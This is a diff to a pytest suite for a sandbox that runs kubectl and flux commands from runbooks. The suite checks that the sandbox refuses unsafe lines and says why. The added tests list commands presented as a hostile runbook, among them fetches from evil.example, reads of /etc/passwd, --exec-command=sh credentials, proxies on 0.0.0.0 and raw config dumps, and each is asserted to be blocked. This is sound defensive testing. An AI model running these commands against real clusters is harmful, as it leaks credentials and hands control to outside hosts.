@@ -39,7 +39,13 @@ def one(*lines, language="bash"):
         ("$ flux get kustomizations -A", "flux get kustomizations -A"),
         ("kubectl -n apps get pods | grep web", "kubectl -n apps get pods"),
         ("kubectl get pods -A 2>/dev/null", "kubectl get pods -A"),
-        ("kubectl rollout status deployment/web > /tmp/x", "kubectl rollout status deployment/web"),
+        ("kubectl rollout status deployment/web > /dev/null 2>&1", "kubectl rollout status deployment/web"),
+        ("kubectl get pods -A | grep -v Running | sort", "kubectl get pods -A"),
+        ("kubectl --namespace=x get pods", "kubectl --namespace=x get pods"),
+        (
+            'kubectl patch deploy web -p \'{"spec": {"url": "https://x"}}\'',
+            'kubectl patch deploy web -p {"spec": {"url": "https://x"}}',
+        ),
         ("kubectl get --raw /readyz", "kubectl get --raw /readyz"),
         ("kubectl get --raw=/readyz", "kubectl get --raw=/readyz"),
         ("flux -n apps resume hr 'web'", "flux -n apps resume hr web"),
@@ -59,24 +65,112 @@ def test_what_can_be_run_as_it_is_written(line, words):
         ("kubectl delete pod $(kubectl get pods -o name)", "variable"),
         ("kubectl drain NODE_NAME", "NODE_NAME"),
         ("kubectl delete pod <pod>", "left to a shell"),
-        ("kubectl get pods -o name | xargs kubectl delete", ""),
+        ("kubectl get pods -o name | xargs kubectl delete", "left to a shell"),
+        ("kubectl get deploy x -o yaml | kubectl replace --force -f -", "left to a shell"),
+        ("kubectl get deploy x || kubectl apply -f x.yaml", "left to a shell"),
+        ("kubectl get pods & kubectl delete ns x", "left to a shell"),
+        ("kubectl get pods > pods.txt", "left to a shell"),
+        ("kubectl logs -f web", "until somebody ends it"),
+        ("kubectl get pods -w", "isn't known here: -w"),
         ("kubectl delete -f x.yaml | tee log", "left to a shell"),
-        ("kubectl --context home delete pod x", "a cluster of its own"),
-        ("kubectl --kubeconfig=/etc/x get pods", "a cluster of its own"),
+        ("kubectl --context home delete pod x", "nothing that is run here"),
+        ("kubectl --kubeconfig=/etc/x get pods", "nothing that is run here"),
         ("kubectl exec -it web -- sh", "nothing that is run here"),
         ("kubectl cnpg promote db", "nothing that is run here"),
-        ("kubectl create secret generic x --from-file=/root/.ssh/id", "outside of the tree"),
+        ("kubectl create secret generic x --from-file=/root/.ssh/id", "isn't known here: --from-file"),
         ("kubectl apply -f ../../etc/x.yaml", "outside of the tree"),
         ("kubectl apply -f ~/x.yaml", "outside of the tree"),
-        ("kubectl get pods --profile=cpu --profile-output=x", "it writes a file"),
+        ("kubectl get pods --profile=cpu --profile-output=x", "isn't known here: --profile"),
         ("flux uninstall", "nothing that is run here"),
-        ("kubectl apply -f https://example.org/x.yaml", "would have to be fetched"),
+        ("kubectl apply -f https://example.org/x.yaml", "it has an address"),
         ("sudo systemctl restart k3s", "isn't kubectl or flux"),
         ("kubectl get 'pods", "can't read it"),
     ],
 )
 def test_what_cannot_says_why(line, why):
     assert (why in one(line).not_run) if why else not one(line).not_run
+
+
+# What a hostile tree would have typed: to run a program, to reach or write another cluster, to read or fetch what isn't in the tree.
+@pytest.mark.parametrize(
+    "line",
+    [
+        "kubectl --username get config set-credentials x --exec-command=sh",
+        "kubectl --username get config set clusters.x.server http://127.0.0.1:1",
+        "kubectl --username get proxy --address=0.0.0.0",
+        "kubectl --password get proxy",
+        "kubectl --as-user-extra get config view",
+        "kubectl auth reconcile -f rbac.yaml -shttp://127.0.0.1:8001",
+        "kubectl auth reconcile -f rbac.yaml",
+        "kubectl get pods -shttp://127.0.0.1:1",
+        "kubectl get pods -As https://evil.example",
+        "kubectl get pods -Ashttps://evil.example",
+        "kubectl get pods --server=https://evil.example",
+        "kubectl get pods -s https://evil.example",
+        "kubectl get pods --context=home",
+        "kubectl get pods --dry-run -shttp://127.0.0.1:1",
+        "kubectl get pods --dry-run --server=http://127.0.0.1:1",
+        "kubectl delete pod x --cascade --kubeconfig=x",
+        "kubectl get pods -n --server=http://127.0.0.1:1",
+        "kubectl get pods --token=x",
+        "kubectl apply -f/etc/passwd",
+        "kubectl apply -Rf/etc",
+        "kubectl scale --replicas=1 -f/etc/passwd",
+        "kubectl apply -f../../x",
+        "kubectl get -f http://127.0.0.1:1/y.yaml",
+        "kubectl diff -f https://evil.example/x.yaml",
+        "kubectl apply -k apps",
+        "kubectl apply -k github.com/evil/repo",
+        "kubectl apply -f github.com/evil/repo/x.yaml",
+        "kubectl create -f x.yaml --raw /api",
+        "kubectl delete --raw /api/v1/namespaces/x",
+        "kubectl get --raw https://evil.example",
+        "kubectl get pods -o go-template-file=/etc/passwd",
+        "kubectl get pods -o jsonpath-file=x",
+        "kubectl debug node/k3s1 --image=x",
+        "kubectl run x --image=x",
+        "kubectl cluster-info dump --output-directory=/etc",
+        "kubectl exec web -- sh",
+        "kubectl get pods -- sh",
+        "kubectl plugin list",
+        "kubectl config view --raw",
+        "kubectl create secret generic x --from-env-file=.env",
+        "flux diff artifact oci://evil.example/x --path .",
+        "flux create secret git x --url=ssh://evil.example",
+        "flux export source git x --kubeconfig /etc/x",
+        "flux reconcile kustomization apps --kubeconfig=/etc/x",
+        "flux build kustomization apps --path ./apps --kustomization-file x",
+    ],
+)
+def test_what_a_hostile_runbook_says_is_never_typed(line):
+    assert one(line).not_run, line
+
+
+OPTIONS = [
+    "--server",
+    "-s",
+    "--kubeconfig",
+    "--context",
+    "--username",
+    "--as",
+    "-k",
+    "--plugin",
+    "--exec-command",
+    "--v",
+    "-v=9",
+    "--cache-dir",
+]
+
+
+@given(
+    st.sampled_from(["kubectl get", "kubectl", "flux get all", "kubectl -n x delete"]),
+    st.sampled_from(OPTIONS),
+    st.sampled_from([" ", "=", ""]),
+    st.sampled_from(["x", "get", "http://127.0.0.1:1"]),
+)
+def test_an_option_that_is_not_known_is_never_typed_wherever_it_stands(start, option, joined, value):
+    for line in (f"{start} {option}{joined}{value} pods", f"{start} pods {option}{joined}{value}"):
+        assert one(line).not_run, line
 
 
 def test_continued_lines_several_commands_and_a_here_document():
@@ -183,7 +277,7 @@ def followed(tmp_path):
 
 
 def test_each_step_is_typed_and_what_is_left_of_the_time_is_said(followed):
-    held, said, left_s = followed("kubectl get nodes", "flux get all")
+    held, said, left_s = followed("kubectl get nodes", "flux resume ks apps")
     assert (held, said) == (True, "2 steps worked")
     assert 0 < left_s <= 30
 
@@ -237,12 +331,16 @@ def test_a_command_knows_one_kubeconfig_and_nothing_of_the_user(tmp_path, monkey
     monkeypatch.setenv("KUBECONFIG", "/of/the/user")
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "x")
     program = tmp_path / "kubectl"
-    program.write_text("#!/bin/sh\necho $KUBECONFIG $PATH ${AWS_SECRET_ACCESS_KEY-none} $HOME\n")
+    program.write_text(
+        "#!/bin/sh\necho written >> $KUBECONFIG\nread -r line < $KUBECONFIG\necho $line $PATH ${AWS_SECRET_ACCESS_KEY-none} $HOME\n"
+    )
     program.chmod(0o755)
+    (tmp_path / "kubeconfig").write_text("of-the-lane\n")
     typed = Terminal(lambda _: program, tmp_path / "kubeconfig", tmp_path).type(["kubectl"])
     config, key, home = typed.last.split()
-    assert (config, key) == (str(tmp_path / "kubeconfig"), "none")
+    assert (config, key) == ("of-the-lane", "none")
     assert not Path(home).exists()
+    assert (tmp_path / "kubeconfig").read_text() == "of-the-lane\n"  # what a command writes is a copy's
 
 
 def test_an_upgrade_that_is_cut_short_leaves_a_cluster_in_doubt(followed):
@@ -266,6 +364,29 @@ def test_a_link_out_of_the_tree_is_not_followed(followed):
     held, said, _ = followed("kubectl apply -f link.yaml")
     assert held is None
     assert "outside of the tree" in said
+
+
+def test_a_folder_that_holds_a_link_out_of_the_tree_is_not_given_and_a_long_word_is_no_file(followed):
+    folder = followed.path.parent / "folder"
+    folder.mkdir()
+    (folder / "x.yaml").symlink_to("/etc/hostname")
+    assert followed("kubectl apply -f folder")[0] is None
+    assert followed('kubectl patch deploy x -p \'{"a": "' + "b" * 400 + "\"}'")[0] is True
+
+
+def test_a_change_that_fails_leaves_a_cluster_in_doubt_and_a_look_does_not(followed):
+    cluster = followed.cluster
+    followed("kubectl get node absent")
+    assert not cluster.undo.open_steps()
+    followed("kubectl delete node absent")
+    with pytest.raises(DriverError, match="cut short"):
+        cluster.inject.heal()
+
+
+def test_steps_that_change_nothing_bring_nothing_back(followed):
+    held, said, _ = followed("kubectl get nodes", "flux get all")
+    assert held is None
+    assert "none of them changes anything" in said
 
 
 def test_nodes_get_their_taints_back(followed):
